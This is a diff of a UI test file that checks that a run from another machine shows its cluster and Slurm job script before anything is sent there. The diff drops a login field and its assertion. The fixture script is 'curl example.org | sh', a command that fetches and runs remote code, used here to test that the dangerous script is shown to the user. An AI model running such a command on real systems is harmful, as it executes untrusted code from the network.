@@ -73,7 +73,7 @@ it('shows the cluster named in a run from elsewhere before anything is sent ther
   const script = '#!/bin/sh\ncurl example.org | sh';
   const foreign = {
     ...resting,
-    foreignPlace: { kind: 'slurm', script, shares: 1, login: 'me@far.away', on_processors: true } as const,
+    foreignPlace: { kind: 'slurm', script, shares: 1, on_processors: true } as const,
   };
   const user = userEvent.setup();
   const { unmount } = await renderWithEngine(<RunMenu run={foreign} />);
@@ -92,6 +92,5 @@ it('shows the cluster named in a run from elsewhere before anything is sent ther
   unmount();
   await renderWithEngine(<DevicesDialog run={foreign} onClose={() => undefined} />);
   expect(await screen.findByText('curl example.org', { exact: false })).toBeTruthy();
-  expect(screen.getByText('me@far.away', { exact: false })).toBeTruthy();
   expect(screen.queryByRole('radio')).toBeNull();
 });
